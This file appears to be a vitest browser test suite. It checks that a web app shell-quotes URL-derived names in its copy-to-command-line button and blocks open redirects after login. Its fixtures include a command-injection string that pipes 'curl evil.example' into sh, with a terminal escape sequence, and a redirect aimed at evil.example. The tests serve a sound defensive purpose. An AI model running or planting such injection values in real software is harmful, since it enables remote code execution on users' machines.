import { readFile } from "node:fs/promises";
import { describe, expect, test } from "vitest";
import { useStage } from "../../support/stage.ts";
import { hasBrowser, useBrowser } from "../../support/visitor.ts";

/** A name, as it stands in an address. */
const hostile = "x';%20curl%20evil.example%20|%20sh%20$(id)%1b[201~";
const quoted = "$'x\\'; curl evil.example | sh $(id)\\033[201~'";

describe.skipIf(!hasBrowser)("addresses that somebody else made", () => {
  const stage = useStage();
  const browser = useBrowser();

  test.each([
    ["agents/", ""],
    ["pools/", ""],
    ["pools/", "/tokens"],
    ["runs/", ""],
    ["ws/", ""],
    ["ws/", "/variables"],
    ["ws/network/state/", ""],
    ["settings/variable-sets/", ""],
  ])("%s…%s puts no command of theirs behind the button that copies", async (before, after) => {
    await using somebody = await browser.admin(stage.server);
    await somebody.open(`/o/default/${before}${hostile}${after}`);
    const shown = (await somebody.page.getByTestId("page-cli").textContent()) ?? "";
    expect(shown).toContain("windlass ");
    expect(shown).toContain(quoted);
  });

  test("whoever signs in gets to no other server", async () => {
    await using somebody = await browser.visitor(stage.server);
    const { page } = somebody;
    await somebody.open(`/login?next=${encodeURIComponent("/\t/evil.example/o/default")}`);
    await page.getByTestId("api-key").fill((await readFile(stage.server.adminTokenFile, "utf8")).trim());
    await page.getByTestId("sign-in").click();
    await page.getByTestId("page-cli").waitFor();
    expect(new URL(page.url()).origin).toBe(new URL(stage.server.url).origin);
    expect(somebody.complaints.filter((text) => !text.includes("401"))).toEqual([]);
  });
});
